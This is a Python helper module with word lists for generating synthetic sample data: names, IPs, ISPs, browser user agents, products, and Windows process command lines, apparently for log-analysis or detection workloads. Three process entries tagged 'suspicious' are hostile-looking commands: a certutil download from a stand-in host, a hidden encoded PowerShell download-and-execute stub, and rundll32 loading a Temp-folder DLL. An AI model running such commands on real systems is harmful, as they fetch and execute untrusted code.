"""Helpers and word lists for make_samples.py: the sample files of the template workloads.

Names, places and software are common public words; every combination, address and identifier made from them
is synthetic. One seeded stream (`RNG`) makes every file, so the same code always writes the same files.
"""

from __future__ import annotations

import csv
import hashlib
import json
import random
from pathlib import Path

RNG = random.Random(25)
OUT = Path(__file__).resolve().parent  # where the project folders are written (make_samples.py --out)


def write_csv(project: str, name: str, rows: list[dict]) -> None:
    path = OUT / project / "samples" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def write_json(project: str, name: str, rows: list[dict]) -> None:
    path = OUT / project / "samples" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(rows, indent=1) + "\n", encoding="utf-8")


def people(n: int, short: bool = False) -> list[str]:
    """`n` distinct user names: first.last, or with `short` Unix-style (first initial and last name)."""
    names: set[str] = set()
    while len(names) < n:
        first, last = RNG.choice(FIRST), RNG.choice(LAST)
        names.add(f"{first[0]}{last}" if short else f"{first}.{last}")
    return sorted(names)


def public_ip() -> str:
    first = RNG.choice([23, 31, 37, 45, 62, 77, 81, 86, 91, 98, 104, 109, 145, 151, 176, 185, 193, 212, 217])
    return f"{first}.{RNG.randint(0, 255)}.{RNG.randint(0, 255)}.{RNG.randint(1, 254)}"


def digest(*parts: object, size: int = 32) -> str:
    """A stable hex string standing for an id or a hash."""
    return hashlib.sha256("/".join(map(str, parts)).encode()).hexdigest()[:size]


FIRST = (  # noqa: SIM905 (a list of words reads best as words)
    "james mary robert patricia john jennifer michael linda david elizabeth william barbara richard susan "
    "joseph jessica thomas sarah charles karen chris lisa daniel nancy matthew betty anthony sandra mark "
    "ashley donald kimberly steven emily paul donna andrew michelle joshua carol kenneth amanda kevin melissa "
    "brian deborah george stephanie timothy rebecca ronald laura jason helen edward sharon jeffrey cynthia "
    "ryan amy jacob anna nikita olga sven ingrid hiroshi yuki pierre camille mateo lucia"
).split()
LAST = (  # noqa: SIM905 (a list of words reads best as words)
    "smith johnson williams brown jones garcia miller davis rodriguez martinez hernandez lopez gonzalez wilson "
    "anderson thomas taylor moore jackson martin lee perez thompson white harris sanchez clark ramirez lewis "
    "robinson walker young allen king wright scott torres nguyen hill flores green adams nelson baker hall "
    "rivera campbell mitchell carter roberts petrov larsen berg tanaka sato dubois moreau fischer weber rossi"
).split()
DEPARTMENTS = ("engineering", "finance", "sales", "hr", "it", "support", "marketing", "legal")
SITES = ("nyc", "lon", "fra", "sgp")

# (city, ISO country code, country name, latitude, longitude)
CITIES = (
    ("New York", "US", "United States", 40.71, -74.01),
    ("Chicago", "US", "United States", 41.88, -87.63),
    ("Dallas", "US", "United States", 32.78, -96.8),
    ("Seattle", "US", "United States", 47.61, -122.33),
    ("Toronto", "CA", "Canada", 43.65, -79.38),
    ("London", "GB", "United Kingdom", 51.51, -0.13),
    ("Manchester", "GB", "United Kingdom", 53.48, -2.24),
    ("Frankfurt", "DE", "Germany", 50.11, 8.68),
    ("Berlin", "DE", "Germany", 52.52, 13.4),
    ("Paris", "FR", "France", 48.86, 2.35),
    ("Amsterdam", "NL", "Netherlands", 52.37, 4.9),
    ("Stockholm", "SE", "Sweden", 59.33, 18.07),
    ("Madrid", "ES", "Spain", 40.42, -3.7),
    ("Milan", "IT", "Italy", 45.46, 9.19),
    ("Warsaw", "PL", "Poland", 52.23, 21.01),
    ("Tokyo", "JP", "Japan", 35.68, 139.69),
    ("Singapore", "SG", "Singapore", 1.35, 103.82),
    ("Sydney", "AU", "Australia", -33.87, 151.21),
    ("Sao Paulo", "BR", "Brazil", -23.55, -46.63),
    ("Mumbai", "IN", "India", 19.08, 72.88),
)
ISPS = {  # by country code; the cloud ones anywhere
    "US": ((7922, "Comcast Cable Communications"), (701, "Verizon Business"), (7018, "AT&T Services")),
    "CA": ((812, "Rogers Communications"), (577, "Bell Canada")),
    "GB": ((2856, "British Telecommunications PLC"), (5089, "Virgin Media Limited")),
    "DE": ((3320, "Deutsche Telekom AG"), (3209, "Vodafone GmbH")),
    "FR": ((3215, "Orange S.A."), (12322, "Free SAS")),
    "NL": ((1136, "KPN B.V."), (33915, "Vodafone Libertel B.V.")),
    "SE": ((3301, "Telia Company AB"),),
    "ES": ((3352, "Telefonica de Espana"),),
    "IT": ((3269, "Telecom Italia"),),
    "PL": ((5617, "Orange Polska Spolka Akcyjna"),),
    "JP": ((2516, "KDDI Corporation"), (4713, "NTT Communications Corporation")),
    "SG": ((9506, "Singtel Fibre Broadband"),),
    "AU": ((1221, "Telstra Corporation Ltd"),),
    "BR": ((28573, "Claro NXT Telecomunicacoes Ltda"),),
    "IN": ((55836, "Reliance Jio Infocomm Limited"), (9498, "Bharti Airtel Ltd.")),
    "*": ((16509, "Amazon.com, Inc."), (14061, "DigitalOcean, LLC"), (24940, "Hetzner Online GmbH")),
}


def isp(country_iso: str) -> tuple[int, str]:
    """An (AS number, organisation) of that country, now and then a hosting provider."""
    return RNG.choice(ISPS["*"] if RNG.random() < 0.15 else ISPS[country_iso])


BROWSERS = (
    # (user agent, name, version, os, os version, device, kind, weight)
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36",
        "Chrome",
        "124.0.0.0",
        "Windows",
        "10",
        "Other",
        "browser",
        30,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "Firefox",
        "125.0",
        "Windows",
        "10",
        "Other",
        "browser",
        8,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.4 Safari/605.1.15",
        "Safari",
        "17.4",
        "Mac OS X",
        "10.15.7",
        "Mac",
        "browser",
        12,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/123.0.0.0 Safari/537.36",
        "Chrome",
        "123.0.0.0",
        "Mac OS X",
        "10.15.7",
        "Mac",
        "browser",
        9,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51",
        "Edge",
        "124.0.2478.51",
        "Windows",
        "10",
        "Other",
        "browser",
        7,
    ),
    (
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
        "Chrome",
        "122.0.0.0",
        "Linux",
        "",
        "Other",
        "browser",
        2,
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.4 Mobile/15E148 Safari/604.1",
        "Mobile Safari",
        "17.4",
        "iOS",
        "17.4",
        "iPhone",
        "mobile",
        14,
    ),
    (
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.6367.82 Mobile Safari/537.36",
        "Chrome Mobile",
        "124.0.6367.82",
        "Android",
        "14",
        "Pixel 8",
        "mobile",
        6,
    ),
    (
        "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/123.0.6312.99 Mobile Safari/537.36",
        "Chrome Mobile",
        "123.0.6312.99",
        "Android",
        "13",
        "Samsung SM-S911B",
        "mobile",
        5,
    ),
    (
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Googlebot",
        "2.1",
        "Other",
        "",
        "Spider",
        "bot",
        3,
    ),
    (
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "Bingbot",
        "2.0",
        "Other",
        "",
        "Spider",
        "bot",
        2,
    ),
    (
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
        "AhrefsBot",
        "7.0",
        "Other",
        "",
        "Spider",
        "bot",
        1,
    ),
    ("curl/8.5.0", "curl", "8.5.0", "Other", "", "Other", "tool", 1),
    ("python-requests/2.31.0", "Python Requests", "2.31", "Other", "", "Other", "tool", 1),
    ("okhttp/4.12.0", "okhttp", "4.12.0", "Android", "", "Other", "mobile", 2),
)

PRODUCTS = (  # noqa: SIM905 (a list of words reads best as words)
    "trail-running-shoe wool-socks rain-jacket hiking-backpack camping-stove sleeping-bag headlamp "
    "water-filter trekking-poles fleece-hoodie merino-tshirt down-vest gaiters compass-pro tent-2p tent-4p "
    "camp-chair insulated-bottle dry-bag first-aid-kit solar-charger bike-helmet bike-light chain-lube "
    "yoga-mat"
).split()
CATEGORIES = (  # noqa: SIM905 (a list of words reads best as words)
    "footwear apparel packs camping climbing cycling running outlet"
).split()

WINDOWS_TOOLS = (
    # (image, category, integrity, command line arguments, weight)
    ("C:\\Windows\\System32\\svchost.exe", "system", "System", "-k netsvcs -p -s Schedule", 20),
    ("C:\\Windows\\System32\\conhost.exe", "system", "Medium", "0xffffffff -ForceV1", 10),
    ("C:\\Windows\\System32\\RuntimeBroker.exe", "system", "Medium", "-Embedding", 8),
    ("C:\\Windows\\System32\\backgroundTaskHost.exe", "system", "Low", "-ServerName:BackgroundTaskHost", 6),
    ("C:\\Windows\\System32\\taskhostw.exe", "system", "Medium", "", 6),
    ("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "system", "System", "-secured -Embedding", 5),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "office", "Medium", "/recycle", 12),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
        "office",
        "Medium",
        '"C:\\Users\\{user}\\Documents\\budget-q2.xlsx"',
        8,
    ),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "office",
        "Medium",
        '/n "C:\\Users\\{user}\\Downloads\\contract-draft.docx"',
        8,
    ),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "office",
        "Medium",
        "--type=renderer --lang=en-US --renderer-client-id=7",
        18,
    ),
    (
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        "office",
        "Medium",
        "--single-argument https://intranet.corp.example/",
        9,
    ),
    (
        "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
        "office",
        "Medium",
        "--process-start-reason=AutoStart",
        9,
    ),
    ("C:\\Windows\\explorer.exe", "office", "Medium", "", 5),
    ("C:\\Windows\\System32\\cmd.exe", "admin", "High", "/c ipconfig /all", 4),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "admin",
        "High",
        "-NoProfile -Command Get-Service | Where-Object Status -eq Stopped",
        4,
    ),
    ("C:\\Windows\\System32\\mmc.exe", "admin", "High", "C:\\Windows\\system32\\dsa.msc", 2),
    ("C:\\Windows\\System32\\net.exe", "admin", "High", 'group "Domain Admins" /domain', 1),
    ("C:\\Windows\\System32\\sc.exe", "admin", "High", "query wuauserv", 2),
    ("C:\\Windows\\System32\\reg.exe", "admin", "High", "query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion", 1),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "dev", "Medium", "pull --rebase origin main", 6),
    ("C:\\Program Files\\Microsoft VS Code\\Code.exe", "dev", "Medium", "--folder-uri file:///c%3A/src/billing", 6),
    ("C:\\Program Files\\Python311\\python.exe", "dev", "Medium", "-m pytest -q tests/unit", 3),
    ("C:\\Program Files\\nodejs\\node.exe", "dev", "Medium", "node_modules\\vite\\bin\\vite.js build", 3),
    (
        "C:\\Windows\\System32\\rundll32.exe",
        "suspicious",
        "Medium",
        "C:\\Users\\{user}\\AppData\\Local\\Temp\\upd4821.dll,DllRegisterServer",
        1,
    ),
    (
        "C:\\Windows\\System32\\certutil.exe",
        "suspicious",
        "Medium",
        "-urlcache -split -f http://203.0.113.77/a.txt C:\\Users\\Public\\a.txt",
        1,
    ),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "suspicious",
        "Medium",
        "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        1,
    ),
)
